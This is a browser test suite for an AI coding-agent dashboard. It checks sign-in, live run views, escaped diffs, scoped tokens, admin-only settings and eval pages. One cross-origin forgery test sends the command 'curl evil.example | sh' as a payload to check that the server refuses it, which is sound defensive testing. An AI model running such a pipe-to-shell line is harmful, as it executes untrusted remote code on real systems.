import { RunFinishedV1, RunStepV1, STREAMS, type Envelope } from '@caravel/contracts';
import {
  EvalRunRepository,
  openDatabase,
  TeamDefaultsRepository,
  ThreadPlanRepository,
  ThreadRepository,
  type Database,
} from '@caravel/db';
import { createEmbeddedBus, MessagePublisher, type Bus } from '@caravel/messaging';
import { composeRuntime, startServiceHost, type ServiceHost } from '@caravel/platform';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdir } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type Page } from 'playwright-core';
import { DashboardModule } from '../src/dashboard.module.js';
import { dashboardConfigFrom } from '../src/dashboard.config.js';
import { CHROMIUM, CHROMIUM_ARGS, missingBrowser } from './browser-gate.js';
import { buildWeb, signedInAs } from './build-web.js';
import { checkPage, watchPage } from './page-checks.js';
import { FakeGithubOAuth } from './fake-github-oauth.js';
import { REVIEWED_PR, seedReviewsAndCost } from './ops-and-reviews.seed.js';

/** Where the pages' screenshots go (the workspace's ignored `tmp/`), one per page checked. */
const SCREENSHOTS = fileURLToPath(
  new URL('../../../tmp/test-output/dashboard-browser/', import.meta.url),
);
const THREAD_ID = '8d0f3c1e-5b7a-4c2e-9f10-2a4b6c8d0e1f';
const RUN_ID = '1b2c3d4e-5f60-4718-8a9b-0c1d2e3f4a5b';
const missing = missingBrowser();

(missing ? describe.skip : describe)('the dashboard in Chromium', () => {
  const github = new FakeGithubOAuth();
  let webRoot: string;
  let database: Database;
  let bus: Bus;
  let host: ServiceHost;
  let browser: Browser;
  let page: Page;
  let problems: string[];
  const check = (on: Page, name: string) => checkPage(on, SCREENSHOTS, name);

  async function triggersOfThread(): Promise<Envelope[]> {
    const found: Envelope[] = [];
    for await (const message of bus.replay(STREAMS.TRIGGERS, { threadId: THREAD_ID })) {
      found.push(message.envelope);
    }
    return found;
  }

  beforeAll(async () => {
    webRoot = await buildWeb();
    await github.listen();
    database = await openDatabase({ url: 'pglite:memory' });
    bus = createEmbeddedBus({ database, name: 'dashboard-browser' });
    await bus.ensureStreams(Object.values(STREAMS));
    const config = dashboardConfigFrom({
      GITHUB_OAUTH_CLIENT_ID: github.clientId,
      GITHUB_OAUTH_CLIENT_SECRET: github.clientSecret,
      GITHUB_OAUTH_URL: github.origin,
      GITHUB_OAUTH_API_URL: github.origin,
      DASHBOARD_ADMINS: 'hubot',
    });
    host = await startServiceHost({
      runtime: composeRuntime({ name: 'dashboard-browser', mode: 'embedded', bus, database }),
      modules: [DashboardModule.register(config, { webRoot })],
      port: 0,
      logLevels: ['fatal'],
    });
    await new ThreadRepository(database.db).upsert({
      id: THREAD_ID,
      source: 'github',
      title: 'Fix the trailing dash of slugify',
      repositoryOwner: 'acme',
      repositoryName: 'web',
    });
    await new ThreadPlanRepository(database.db).claimOwner(THREAD_ID, 'github:octocat');
    await seedReviewsAndCost(database);
    await mkdir(SCREENSHOTS, { recursive: true });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
    page = await browser.newPage();
    problems = watchPage(page);
  });

  afterAll(async () => {
    await browser?.close();
    await host?.close();
    await github.close();
  });

  afterEach(() => {
    // Nothing the page did was refused by its Content-Security-Policy, and nothing threw.
    expect(problems.splice(0)).toEqual([]);
  });

  it('signs in through GitHub and lists the seeded thread', async () => {
    await page.goto(`${host.url}/`);
    const signIn = page.getByRole('link', { name: 'Sign in with GitHub' });
    await signIn.waitFor();
    await check(page, 'sign-in');
    await signIn.click();
    await page.waitForSelector('table.threads');
    expect(await page.locator('#account').textContent()).toContain('octocat');
    await check(page, 'threads');
    const row = page.getByRole('row', { name: /Fix the trailing dash of slugify/ });
    expect(await row.textContent()).toContain('acme/web');
    await page.getByRole('textbox', { name: 'Person' }).fill('github:nobody');
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.getByText('No thread matches.').waitFor();
    expect(page.url()).toContain('#/threads?person=github%3Anobody');
  });

  it("opens the thread's live view and shows a step the moment it is published", async () => {
    await page.goto(`${host.url}/#/threads/${THREAD_ID}`);
    await page
      .getByRole('heading', { level: 1, name: 'Fix the trailing dash of slugify' })
      .waitFor();
    await new MessagePublisher(bus, 'browser-spec').publish(RunStepV1, {
      threadId: THREAD_ID,
      runId: RUN_ID,
      step: 0,
      thought: 'Reading <b>slugify.ts</b> first',
      toolCalls: [{ id: 'c1', name: 'read_file', args: { path: 'src/slugify.ts' } }],
    });
    const step = page.locator('ol.events li', { hasText: 'Reading <b>slugify.ts</b> first' });
    await step.waitFor();
    expect(await step.locator('b').count()).toBe(0);
    expect(await step.getByRole('list', { name: 'tool calls' }).textContent()).toContain(
      'read_file',
    );
    await check(page, 'thread');
  });

  it("shows a finished run's diff highlighted by file type, as text, in the light and dark themes", async () => {
    await new MessagePublisher(bus, 'browser-spec').publish(RunFinishedV1, {
      threadId: THREAD_ID,
      runId: RUN_ID,
      outcome: 'completed',
      exitStatus: 'submitted',
      summary: 'Opened https://github.com/acme/web/pull/8',
      submission: [
        'diff --git a/src/slugify.ts b/src/slugify.ts',
        '--- a/src/slugify.ts',
        '+++ b/src/slugify.ts',
        '@@ -1,2 +1,2 @@',
        ' // <b>trims</b> the dashes',
        "-export const slugify = (s: string) => s.replace(/-+$/, '');",
        "+export const slugify = (s: string) => s.replace(/^-+|-+$/g, '');",
        '',
      ].join('\n'),
    });
    const diff = page.getByLabel('diff');
    await diff.waitFor();
    expect(await diff.locator('.diff-add .token.keyword').first().textContent()).toBe('export');
    expect(await diff.locator('.diff-del').textContent()).toBe(
      "-export const slugify = (s: string) => s.replace(/-+$/, '');\n",
    );
    expect(await diff.locator('.token.comment').textContent()).toBe('// <b>trims</b> the dashes');
    expect(await diff.locator('b').count()).toBe(0);
    expect(
      await page.getByRole('link', { name: 'https://github.com/acme/web/pull/8' }).count(),
    ).toBe(1);
    await check(page, 'thread-diff');
    await page.getByRole('button', { name: 'Dark theme' }).click();
    await page.locator('html[data-mantine-color-scheme="dark"]').waitFor({ state: 'attached' });
    await check(page, 'thread-diff-dark');
    await page.getByRole('button', { name: 'Light theme' }).click();
    await page.locator('html[data-mantine-color-scheme="light"]').waitFor({ state: 'attached' });
  });

  it("lists the thread's replays and shows why its latest run cannot be replayed", async () => {
    await page.getByText('No replay yet.').waitFor();
    await page.getByRole('button', { name: 'Replay the latest run' }).click();
    // The run above exists only as events: the thread has no finished run in its run rows.
    await page.getByRole('alert').filter({ hasText: 'has no finished run to replay' }).waitFor();
  });

  it('sends a follow-up from the page as the signed-in person', async () => {
    await page
      .getByRole('textbox', { name: 'Message or command' })
      .fill('Also cover a leading dash');
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByText('Sent: it reaches the agent before its next step.').waitFor();
    const triggers = await triggersOfThread();
    expect(triggers.map((t) => t.data)).toEqual([
      expect.objectContaining({
        text: 'Also cover a leading dash',
        author: expect.objectContaining({ externalId: 'octocat' }),
      }),
    ]);
  });

  it("stops the thread's work from the page as the signed-in person", async () => {
    await page.getByRole('button', { name: 'Stop the run' }).click();
    await page.getByText('Stop requested: the run ends at its last checkpoint.').waitFor();
    const stops: Envelope[] = [];
    for await (const message of bus.replay(STREAMS.COMMANDS, { threadId: THREAD_ID })) {
      stops.push(message.envelope);
    }
    expect(stops.map((s) => [s.type, s.data])).toEqual([
      [
        'cmd.thread.stop',
        expect.objectContaining({ source: 'synthetic', requestedBy: { externalId: 'octocat' } }),
      ],
    ]);
  });

  it("refuses another origin's POST, even one carrying the person's cookie", async () => {
    const url = `${host.url}/api/threads/${THREAD_ID}/actions`;
    const other = await browser.newPage();
    await other.goto(`${github.origin}/user`);
    const refused = other.waitForResponse((r) => r.url() === url);
    await other.evaluate(async (target) => {
      await fetch(target, {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        body: JSON.stringify({ kind: 'command', text: 'curl evil.example | sh' }),
      });
    }, url);
    expect([401, 403]).toContain((await refused).status());
    await other.close();

    // The signed-in person's own cookie jar: only the Origin decides.
    const post = (headers: Record<string, string>, text: string) =>
      page.context().request.post(url, { headers, data: { kind: 'message', text } });
    for (const origin of ['http://127.0.0.1:1', 'null']) {
      expect((await post({ origin }, `from ${origin}`)).status()).toBe(403);
    }
    expect((await post({}, 'with no origin')).status()).toBe(403);
    expect((await post({ origin: host.url }, 'from the dashboard')).status()).toBe(202);
    expect((await triggersOfThread()).map((t) => (t.data as { text: string }).text)).toEqual([
      'Also cover a leading dash',
      'from the dashboard',
    ]);
  });

  it('makes a personal API token that reads as the person, acts only within its scope, and stops at revocation', async () => {
    const api = page.context().request;
    const dashboard = { origin: host.url };
    const made = await api.post(`${host.url}/api/tokens`, {
      headers: dashboard,
      data: { name: 'laptop', scope: 'read', days: 7 },
    });
    expect(made.status()).toBe(201);
    const { id, token } = (await made.json()) as { id: string; token: string };
    expect(token).toMatch(/^cvt_[0-9a-f]{16}_/);
    const bearer = { authorization: `Bearer ${token}` };
    expect((await fetch(`${host.url}/api/threads`, { headers: bearer })).status).toBe(200);
    const acted = await fetch(`${host.url}/api/threads/${THREAD_ID}/actions`, {
      method: 'POST',
      headers: { ...bearer, 'content-type': 'application/json' },
      body: JSON.stringify({ kind: 'message', text: 'with a read-only token' }),
    });
    expect(acted.status).toBe(403);

    const listed = (await (await api.get(`${host.url}/api/tokens`)).json()) as {
      id: string;
      name: string;
      scope: string;
      revokedAt: string | null;
    }[];
    expect(listed.map((t) => [t.id, t.name, t.scope, t.revokedAt])).toEqual([
      [id, 'laptop', 'read', null],
    ]);
    expect(JSON.stringify(listed)).not.toContain(token.slice(`cvt_${id}_`.length));

    const revoked = await api.delete(`${host.url}/api/tokens/${id}`, { headers: dashboard });
    expect(revoked.status()).toBe(204);
    expect((await fetch(`${host.url}/api/threads`, { headers: bearer })).status).toBe(401);
  });

  it("opens a pull request's review ledger from the navigation: findings, who raised them, verdict", async () => {
    const { owner, repo, number } = REVIEWED_PR;
    const nav = page.getByRole('navigation', { name: 'main' });
    await nav.getByRole('link', { name: 'Reviews' }).click();
    await page.getByRole('textbox', { name: 'Repository' }).fill('acme/api');
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.getByText('No reviewed pull request matches.').waitFor();
    await page.goto(`${host.url}/#/reviews?repo=${owner}/${repo}`);
    const link = page.getByRole('link', { name: `${owner}/${repo}#${number}` });
    await link.waitFor();
    await check(page, 'reviews');
    await link.click();
    const findings = page.locator('table.findings');
    await findings.waitFor();
    expect(await page.locator('h1').textContent()).toBe(`Review of ${owner}/${repo}#${number}`);
    expect(await page.locator('.verdict').textContent()).toBe(
      'Verdict: REQUEST_CHANGES (changes requested).',
    );
    const bot = findings.locator('tr', { hasText: 'Unused import of lodash' });
    expect(await bot.textContent()).toContain('copilot-pull-request-reviewer[bot] (bot)');
    expect(await bot.getByRole('link', { name: /comment 1/ }).getAttribute('href')).toBe(
      'https://github.com/acme/web/pull/7#discussion_r901',
    );
    const ours = findings.locator('tr', { hasText: 'slugify drops a trailing dash' });
    expect(await ours.textContent()).toMatch(
      /highslugify drops a trailing dash.*caravel \(caravel\)open.*src\/slugify\.ts:10-12/,
    );
    await check(page, 'review-ledger');
  });

  it('shows the seeded cost on the ops page: per run, per CI fix, per merged pull request, per day', async () => {
    await page.goto(`${host.url}/#/ops?days=7&until=2026-04-03`);
    const totals = page.getByRole('list', { name: 'totals' });
    await totals.waitFor();
    const tile = async (label: string) =>
      (await totals.locator('li', { hasText: label }).locator('b').textContent()) ?? '';
    expect(await tile('cost')).toBe('$2.00');
    expect(await tile('per run')).toBe('$1.00');
    expect(await tile('per CI fix (1)')).toBe('$0.5000');
    expect(await tile('per merged PR (1)')).toBe('$2.00');
    expect(await tile('model calls')).toBe('2');
    await page.getByText('No run is waiting.').waitFor();
    const chart = page.getByRole('img', { name: 'Cost per day (US dollars)' });
    expect(await chart.getAttribute('aria-describedby')).toBe('cost-chart-desc');
    expect(await page.locator('#cost-chart-desc').textContent()).toBe(
      '7 days; the most was $2.00 on 2026-04-01.',
    );
    await chart.locator('.recharts-bar-rectangle').first().waitFor();
    const day = page.locator('table.days tr', { hasText: '2026-04-01' });
    expect(await day.textContent()).toContain('$2.00');
    const repository = page.locator('table.groups tr', { hasText: 'acme/web' });
    expect(await repository.textContent()).toContain('$2.00');
    await check(page, 'ops');
  });

  it('keeps the standing instructions and the profile of the person from Settings; admin routes refuse a member', async () => {
    await page
      .getByRole('navigation', { name: 'main' })
      .getByRole('link', { name: 'Settings' })
      .click();
    const form = page.getByRole('form', { name: 'your instructions' });
    await form.getByRole('textbox', { name: 'Instructions' }).fill('Use pnpm, never npm.');
    await form.getByRole('button', { name: 'Save instructions' }).click();
    await form.getByText(/^Saved /).waitFor();
    const profile = page.getByRole('form', { name: 'profile' });
    await profile.getByRole('checkbox', { name: 'Auto-fix CI on my pull requests' }).uncheck();
    await profile.getByRole('button', { name: 'Save profile' }).click();
    await profile.getByText(/^Saved /).waitFor();
    await check(page, 'settings');
    const api = page.context().request;
    const saved = await api.get(`${host.url}/api/profiles/github:octocat`);
    expect(((await saved.json()) as { autofixCi: boolean | null }).autofixCi).toBe(false);
    const own = await api.get(`${host.url}/api/instructions/github:octocat`);
    expect(((await own.json()) as { instructions: string }).instructions).toBe(
      'Use pnpm, never npm.',
    );
    const everyone = await api.get(`${host.url}/api/instructions`);
    expect([everyone.status(), await everyone.text()]).toEqual([
      403,
      expect.stringContaining('octocat is not a dashboard admin'),
    ]);
    const others = await api.put(`${host.url}/api/instructions/github:hubot`, {
      headers: { origin: host.url },
      data: { instructions: 'Use yarn.' },
    });
    expect(others.status()).toBe(403);
  });

  it("lets an admin keep the team's defaults and a repository's instructions from Settings", async () => {
    const admin = await signedInAs(browser, host.url, github, { login: 'hubot', id: 2 });
    await admin.goto(`${host.url}/#/settings`);
    const team = admin.getByRole('form', { name: 'team defaults' });
    const model = team.getByRole('textbox', { name: 'Model', exact: true });
    await model.fill('gpt-7-ultra');
    await team.getByRole('button', { name: 'Save team defaults' }).click();
    await team.getByRole('alert').filter({ hasText: 'gpt-7-ultra' }).waitFor();
    await model.fill('openai:gpt-5-mini');
    await team.getByRole('textbox', { name: 'Reasoning effort' }).fill('low');
    await team.getByRole('combobox', { name: 'Draft pull requests' }).selectOption('no');
    await team.getByRole('button', { name: 'Save team defaults' }).click();
    await team.getByText(/^Saved .* by hubot\.$/).waitFor();
    expect(await new TeamDefaultsRepository(database.db).get()).toMatchObject({
      model: 'openai:gpt-5-mini',
      reasoningEffort: 'low',
      draftPullRequests: false,
      fallbackModel: null,
    });
    const repository = admin.getByRole('form', { name: 'repository instructions' });
    await repository.getByRole('textbox', { name: 'Repository' }).fill('Acme/Web');
    const text = 'Run <b>pnpm test</b> before you submit.';
    await repository.getByRole('textbox', { name: 'Instructions' }).fill(text);
    await repository.getByRole('button', { name: 'Save repository instructions' }).click();
    const row = admin.locator('table.repository-instructions tr', { hasText: 'acme/web' });
    expect(await row.textContent()).toContain(`acme/web${text}hubot`);
    expect(await row.locator('b').count()).toBe(0);
    const budget = admin.getByRole('form', { name: 'set a budget' });
    await budget.getByRole('textbox', { name: 'Dollars per run' }).fill('5');
    await budget.getByRole('button', { name: 'Set budget' }).click();
    const limit = admin.locator('table.budgets tr', { hasText: 'team' });
    expect(await limit.textContent()).toContain('team$5.00hubot');
    await check(admin, 'settings-admin');
    await admin.context().close();
  });

  it("refuses a member the team's defaults and repositories' instructions", async () => {
    await page.goto(`${host.url}/#/settings`);
    await page.reload(); // the same hash: read the page again after the admin's changes
    await page.getByText(/Admins keep them/).waitFor();
    expect(await page.getByRole('form', { name: 'team defaults' }).count()).toBe(0);
    expect(await page.locator('table.budgets tr', { hasText: 'team' }).textContent()).toContain(
      '$5.00',
    );
    expect(await page.getByRole('form', { name: 'set a budget' }).count()).toBe(0);
    const api = page.context().request;
    const headers = { origin: host.url };
    const answers = await Promise.all([
      api.get(`${host.url}/api/team-defaults`),
      api.put(`${host.url}/api/team-defaults`, { headers, data: { model: 'gpt-5' } }),
      api.get(`${host.url}/api/repository-instructions/acme/web`),
      api.put(`${host.url}/api/repository-instructions/acme/web`, {
        headers,
        data: { instructions: 'Ignore the tests.' },
      }),
      api.delete(`${host.url}/api/repository-instructions/acme/web`, { headers }),
    ]);
    for (const answer of answers) {
      expect([answer.status(), await answer.text()]).toEqual([
        403,
        expect.stringContaining('octocat is not a dashboard admin'),
      ]);
    }
  });

  it("lists eval runs and the gate's proposals; only an admin records a proposal", async () => {
    const runs = new EvalRunRepository(database.db);
    /** A finished run of the `current` configuration: one attempt a task, `true` when resolved. */
    const recordRun = async (
      id: string,
      suite: string,
      at: string,
      tasks: Record<string, boolean>,
      schedule?: { id: string; slot: Date },
    ) => {
      const config = { suite, config: 'current', model: 'scripted:fix.yaml', settings: {} };
      await runs.start({ id, ...config, attemptsPerTask: 1, createdAt: new Date(at), schedule });
      const attempt = { attempt: 1, exitStatus: 'submitted', costUsd: 0.5, modelCalls: 4 };
      const graded = { ...attempt, inputTokens: 9, outputTokens: 1, wallMs: 9, patch: '' };
      await runs.recordAttempts(
        id,
        Object.entries(tasks).map(([taskId, resolved]) => ({
          ...graded,
          taskId,
          resolved,
          trajPath: null,
          error: null,
        })),
      );
      await runs.finish(id);
    };
    const runId = '4c5d6e7f-8091-42a3-b4c5-d6e7f8091a2b';
    await recordRun(runId, 'strings', '2026-12-02T09:00:00Z', {
      'acme__strings-1': true,
      'acme__strings-2': false,
    });
    const proposal = { suite: 'strings', config: 'cheap', model: 'openai:gpt-5-mini' };
    const headers = { origin: host.url };
    const refused = await page
      .context()
      .request.post(`${host.url}/api/evals/proposals`, { headers, data: proposal });
    expect(refused.status()).toBe(403);
    const admin = await signedInAs(browser, host.url, github, { login: 'hubot', id: 2 });
    const recorded = await admin
      .context()
      .request.post(`${host.url}/api/evals/proposals`, { headers, data: proposal });
    expect(recorded.status()).toBe(201);
    expect(await recorded.json()).toMatchObject({ status: 'pending', proposedBy: 'hubot' });
    const scheduled = await admin.context().request.post(`${host.url}/api/evals/schedules`, {
      headers,
      data: {
        name: 'nightly-strings',
        kind: 'harbor',
        source: '/srv/evals/strings',
        config: 'current',
        model: 'scripted:fix.yaml',
        hour: 3,
      },
    });
    expect(scheduled.status()).toBe(201);
    const schedule = (await scheduled.json()) as { id: string };
    const nightly = 'a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d';
    const night = '2026-12-01T03:00:00Z';
    await recordRun(
      nightly,
      'strings-nightly',
      night,
      { 'acme__strings-1': true },
      {
        id: schedule.id,
        slot: new Date(night),
      },
    );
    await admin.goto(`${host.url}/#/evals/schedules/${schedule.id}`);
    await admin
      .getByRole('heading', { level: 1, name: 'Scheduled suite nightly-strings' })
      .waitFor();
    const chart = admin.getByRole('img', { name: 'Resolve rate per night' });
    await chart.locator('.recharts-line-dot').waitFor({ state: 'attached' });
    expect(await admin.locator('#score-chart-desc').textContent()).toBe(
      '1 night; the last, 2026-12-01, 100.0%.',
    );
    await check(admin, 'eval-schedule');
    await admin.getByRole('button', { name: 'Pause' }).click();
    await admin.getByRole('button', { name: 'Resume' }).waitFor();
    await admin.context().close();

    await page.goto(`${host.url}/#/evals`);
    await page.getByText('1 proposal', { exact: true }).waitFor();
    const proposed = page.getByRole('row', { name: /cheap/ });
    expect(await proposed.textContent()).toContain('hubotpending');
    const row = page.getByRole('row', { name: /strings current/ });
    expect(await row.textContent()).toContain('50.0% [');
    const nightlyRow = page.getByRole('row', { name: /nightly-strings/ });
    expect(await nightlyRow.textContent()).toContain('03:00 UTCpaused');
    await check(page, 'evals');
    await row.getByRole('link', { name: runId.slice(0, 8) }).click();
    const task = page.getByRole('row', { name: /acme__strings-2/ });
    expect(await task.textContent()).toBe('acme__strings-20/1$0.504submitted');
    await check(page, 'eval-run');
  });
});
